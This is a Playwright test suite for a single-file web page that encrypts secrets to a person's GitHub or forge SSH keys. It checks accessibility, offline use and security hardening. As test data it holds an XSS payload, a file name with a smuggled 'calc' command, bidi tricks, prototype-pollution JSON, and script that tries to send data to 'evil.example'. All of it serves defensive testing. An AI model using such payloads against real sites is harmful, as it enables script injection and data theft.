import { gzipSync } from "node:zlib";
import axe from "axe-core";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { FORGES as KNOWN } from "../../../packages/directory/src/forges.ts";
import { FORGES } from "../src/forges.ts";
import { BROWSERS, choose, seal, startPageWorld, type PageWorld } from "./world.ts";

/*
 * What a forge, a link or another page may try, in Chromium: nothing of it runs, and all of it is
 * told.
 */

const [browser] = BROWSERS;
const SCRIPT = "<img src=x onerror=alert(1)><script>globalThis.broken=1</script>";

const errorOf = (page: Page): Promise<string | null> => page.textContent("#who-error");

test("names on forges are the same as the command's", () => {
  const shown = FORGES.map(({ prefix, title, user }) => ({ prefix, title, user }));
  expect(shown).toEqual(KNOWN.map(({ prefix, title, user }) => ({ prefix, title, user })));
});

describe.skipIf(browser?.program.missing !== false)(`in ${browser?.program.label}`, () => {
  let world: PageWorld;
  let tab: Page;
  let key = "";

  beforeAll(async () => {
    if (browser === undefined) throw new Error("there is no browser");
    world = await startPageWorld(browser);
    key = (await world.key({ type: "ed25519" })).publicKey;
    world.github.users.set("choldgraf", { keys: [key] });
    await world.context.addInitScript(() => {
      Object.assign(globalThis, { alert: () => Object.assign(globalThis, { broken: 1 }) });
    });
    tab = await world.open();
  });
  afterAll(() => world[Symbol.asyncDispose]());

  /** Has GitHub answer with anything at all. */
  const answering = async (path: RegExp, body: string, status = 200, headers = {}): Promise<void> => {
    await world.context.route(path, (route) =>
      route.fulfill({ status, body, headers: { "access-control-allow-origin": "*", ...headers } }),
    );
  };
  /** What the page says of a name. */
  const lookUp = async (user: string): Promise<string | null> => {
    await choose(tab, user);
    expect(await tab.evaluate(() => "broken" in globalThis)).toBe(false);
    return errorOf(tab);
  };

  test("is below 80 KB as it is sent, in one file", () => {
    expect(gzipSync(world.html, { level: 9 }).length).toBeLessThan(80_000);
    expect(world.html).not.toMatch(/<(?:script|link|img|iframe)[^>]*\s(?:src|href)="(?!data:)[^"#]/);
  });

  test("who is not there, has no keys or none of use, is told apart, and so is a limit", async () => {
    const ecdsa = (await world.key({ type: "ecdsa" })).publicKey;
    world.github.users.set("nokeys", {});
    world.github.users.set("onlyecdsa", { keys: [ecdsa] });
    expect(await lookUp("nobody-here")).toBe("GitHub knows no user nobody-here. Check the spelling.");
    expect(await lookUp("nokeys")).toMatch(/^nokeys has no SSH keys there/);
    expect(await lookUp("onlyecdsa")).toMatch(/^None of these keys can receive/);
    expect(await lookUp("a b")).toMatch(/^That is no name on GitHub\. Type a user name,/);
    expect(await lookUp("codeberg:alice")).toMatch(/Open https:\/\/codeberg\.org\/alice\.keys, copy all of it/);
    world.github.rate.remaining = 0;
    expect(await lookUp("choldgraf")).toMatch(/^GitHub answers no more questions from this address until \d\d:\d\d/);
    world.github.rate.remaining = 60;
    await world.context.setOffline(true);
    expect(await lookUp("choldgraf")).toMatch(/^Cannot reach GitHub/);
    await world.context.setOffline(false);
  });

  test("pasted keys work offline", async () => {
    const page = await world.open();
    await world.context.setOffline(true);
    await page.click("#show-paste");
    await page.fill("#keys", `${key} laptop\nssh-dss AAAA broken`);
    await page.click("#use-pasted");
    await page.waitForSelector("#receiver:not([hidden])");
    await page.fill("#secret", "offline");
    expect(await seal(page)).toContain("END AGE");
    await world.context.setOffline(false);
    await page.close();
  });

  test("a private key is refused, wherever it is pasted for a public one", async () => {
    const page = await world.open();
    await page.click("#show-paste");
    await page.fill("#keys", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----");
    await page.click("#use-pasted");
    await page.waitForSelector("#who-error:not([hidden])");
    expect(await errorOf(page)).toMatch(/^This is a private key, which no page may have\./);
    await page.close();
  });

  test("HTML, bidi marks and escapes in names and comments are text", async () => {
    world.github.users.set("evil", { name: `${SCRIPT}\u202Egnp`, keys: [`${key} ${SCRIPT}\u202E`] });
    const page = await world.open();
    await choose(page, "evil");
    expect(await page.textContent("#person-name")).toBe("github:evil");
    expect(await page.textContent("#person-about")).toContain("<img src=x onerror=alert(1)>");
    expect(await page.textContent("#receiver")).not.toMatch(/\u202E/);
    expect(await page.$$("#receiver script, #key-list img")).toEqual([]);
    await page.setInputFiles("#files", {
      name: `'; calc; '\u202E${SCRIPT.replaceAll("/", "")}.txt`,
      mimeType: "",
      buffer: Buffer.of(1),
    });
    await seal(page);
    expect(await page.evaluate(() => "broken" in globalThis)).toBe(false);
    expect(await page.textContent("#downloads")).not.toMatch(/\u202E/);
    expect(await page.textContent("#words")).not.toContain("calc");
    await page.close();
  });

  test.each([
    ["no JSON", "<html>", 200],
    ["an object where a list should be", '{"__proto__":{"key":"x"},"length":1}', 200],
    ["keys of the prototype alone", '[{"__proto__":{"key":"ssh-ed25519 AAAA"}}]', 200],
    ["keys that are objects", '[{"key":{"toString":1}}]', 200],
    ["a key of 20,000 characters", JSON.stringify([{ key: "A".repeat(20_000) }]), 200],
    ["2 MiB", `[${" ".repeat(2 * 1024 * 1024)}]`, 200],
  ])("an answer that is %s is no list of keys", async (_, body, status) => {
    const path = /users\/choldgraf\/keys/;
    await answering(path, body, status);
    expect(await lookUp("choldgraf")).toMatch(/^GitHub gave an answer that is no list of keys/);
    await world.context.unroute(path);
  });

  test("a name of digits, which GitLab takes for the number of an account, is not asked for", async () => {
    expect(await lookUp("gitlab:20231234")).toMatch(/^This forge does not let pages ask\. Open https:\/\/gitlab\.com/);
    expect(world.requests.filter((url) => url.includes("20231234"))).toEqual([]);
  });

  test("browsers are told to keep nothing of what is typed or opened", () => {
    const fields = world.html.match(/<textarea[^>]*>/g) ?? [];
    expect(fields).toHaveLength(6);
    expect(fields.filter((field) => !field.includes(' autocomplete="off"'))).toEqual([]);
    expect(fields.find((field) => field.includes('id="plaintext"'))).toContain(' form="open-form"');
  });

  test("an answer about another account, an organization or a redirect is none", async () => {
    const path = /users\/choldgraf$/;
    for (const [body, status, said] of [
      ['{"login":"mallory"}', 200, /^GitHub gave an answer/],
      ['{"login":"choldgraf","type":"Organization"}', 200, /^This is an organization/],
      ["", 302, /^(?:Cannot reach|GitHub refused)/],
    ] as const) {
      await answering(path, body, status, status === 302 ? { location: "https://evil.example/" } : {});
      expect(await lookUp("choldgraf")).toMatch(said);
      await world.context.unroute(path);
    }
  });

  test("a picture is asked for only when somebody wants it, and from one host alone", async () => {
    const page = await world.open();
    const before = world.requests.length;
    await choose(page, "choldgraf");
    expect(world.requests.slice(before)).toEqual([
      "https://api.github.com/users/choldgraf",
      "https://api.github.com/users/choldgraf/keys?per_page=100&page=1",
    ]);
    await page.check("#show-avatar");
    await expect.poll(() => world.requests.at(-1)).toMatch(/^https:\/\/avatars\.githubusercontent\.com\/u\/\d+\?s=96$/);
    await answering(/users\/choldgraf$/, '{"login":"choldgraf","avatar_url":"https://evil.example/u/1"}');
    await choose(page, "choldgraf");
    expect(await page.isHidden("#avatar-choice")).toBe(true);
    await world.context.unroute(/users\/choldgraf$/);
    await page.close();
  });

  test("a link preselects one account, which a person has to confirm, and nothing else", async () => {
    const page = await world.open("#choldgraf");
    await page.waitForSelector("#from-link:not([hidden])");
    await page.fill("#secret", "x");
    await page.click("#do-seal");
    const TICK = "Tick the box above first: the link chose the right receiver.";
    expect(await page.textContent("#seal-error")).toBe(TICK);
    // Looking the name up once more is no yes.
    await page.click("#who button[type=submit]");
    await page.waitForSelector("#from-link:not([hidden])");
    await page.click("#do-seal");
    expect(await page.textContent("#seal-error")).toBe(TICK);
    for (const hash of [
      `#${SCRIPT}`,
      `#${encodeURIComponent(key)}`,
      "#javascript:alert(1)",
      "#__proto__",
      "#%",
      "#github:а",
      "#age1x'\"<b>",
    ]) {
      const other = await world.open(hash);
      await other.waitForLoadState();
      expect(await other.isHidden("#receiver")).toBe(true);
      expect(await other.evaluate(() => "broken" in globalThis)).toBe(false);
      await other.close();
    }
    await page.close();
  });

  test("the policy lets no script, style, frame or connection in that is not the page's own", async () => {
    const page = await world.open();
    const refused = await page.evaluate(async (address) => {
      const seen: string[] = [];
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => seen.push(effectiveDirective));
      const add = (tag: string, fields: object): void => {
        document.body.append(Object.assign(document.createElement(tag), fields));
      };
      const attempt = (run: () => unknown): void => {
        try {
          run();
        } catch {
          // Trusted Types throw.
        }
      };
      attempt(() => document.body.lastElementChild?.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>"));
      attempt(() => add("script", { textContent: "globalThis.broken = 1" }));
      attempt(() => add("script", { src: `${address}?1` }));
      attempt(() => add("iframe", { src: "https://evil.example/" }));
      attempt(() => add("img", { src: "https://evil.example/x" }));
      attempt(() => document.body.setAttribute("onclick", "globalThis.broken = 1"));
      await fetch("https://evil.example/").catch(() => {});
      await fetch("https://api.github.com/gists").catch(() => {});
      navigator.sendBeacon("https://evil.example/", "x");
      document.body.click();
      await new Promise((done) => setTimeout(done, 300));
      return { seen, broken: "broken" in globalThis };
    }, world.address);
    expect(refused.broken).toBe(false);
    expect(refused.seen).toEqual(expect.arrayContaining(["connect-src", "frame-src", "img-src"]));
    expect(world.answered.filter((url) => url.includes("evil.example"))).toEqual([]);
    expect(world.github.requests.filter(({ path }) => path.includes("gists"))).toEqual([]);
    await page.close();
  });

  test("in another page's frame it stays shut", async () => {
    const html = { contentType: "text/html" };
    await world.context.route("https://page.example/", (route) => route.fulfill({ ...html, body: world.html }));
    await world.context.route("https://evil.example/", (route) =>
      route.fulfill({ ...html, body: '<iframe src="https://page.example/#choldgraf"></iframe>' }),
    );
    const page = await world.context.newPage();
    await page.goto("https://evil.example/");
    const frame = page.frames()[1];
    await frame?.waitForSelector("#framed:not([hidden])");
    expect(await frame?.isHidden("#main")).toBe(true);
    await page.close();
  });

  test("over plain HTTP it warns, and says why RSA does not work", async () => {
    const rsa = (await world.key({ type: "rsa", bits: 2048 })).publicKey;
    await world.context.route("http://page.example/", (route) =>
      route.fulfill({ contentType: "text/html", body: world.html }),
    );
    const page = await world.context.newPage();
    await page.goto("http://page.example/");
    expect(await page.isVisible("#insecure")).toBe(true);
    await choose(page, rsa);
    await page.fill("#secret", "x");
    await seal(page);
    expect(await page.textContent("#seal-error")).toMatch(/came over plain HTTP\. Open it over HTTPS or from a file/);
    await page.close();
  });

  test.each([
    { width: 360, colorScheme: "light" },
    { width: 1100, colorScheme: "dark" },
  ] as const)(
    "axe finds nothing at $width pixels in $colorScheme, and nothing is wider than the page",
    async ({ width, colorScheme }) => {
      const page = await world.open();
      await page.setViewportSize({ width, height: 800 });
      await page.emulateMedia({ colorScheme });
      await choose(page, "evil");
      await page.fill("#secret", "x");
      await seal(page);
      await page.evaluate(() => document.querySelectorAll("details").forEach((its) => (its.open = true)));
      await page.evaluate(axe.source);
      for (const view of ["seal", "request", "open"]) {
        await page.click(`nav a[data-view=${view}]`);
        const found = await page.evaluate(async () => {
          const { violations } = (await Reflect.get(globalThis, "axe").run()) as {
            violations: { id: string; nodes: { html: string }[] }[];
          };
          return violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(" ")}`);
        });
        expect(found).toEqual([]);
        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
      }
      await page.close();
    },
  );

  test("all of it can be done with the keyboard alone", async () => {
    const page = await world.open();
    await page.focus("#name");
    await page.keyboard.type("choldgraf");
    await page.keyboard.press("Enter");
    await page.waitForSelector("#receiver:not([hidden])");
    await page.focus("#secret");
    await page.keyboard.type("typed");
    for (let presses = 0; presses < 5; presses += 1) {
      await page.keyboard.press("Tab");
      if (await page.evaluate(() => document.activeElement?.id === "do-seal")) break;
    }
    await page.keyboard.press("Enter");
    await page.waitForSelector("#result:not([hidden])");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("result");
    await page.close();
  });
});
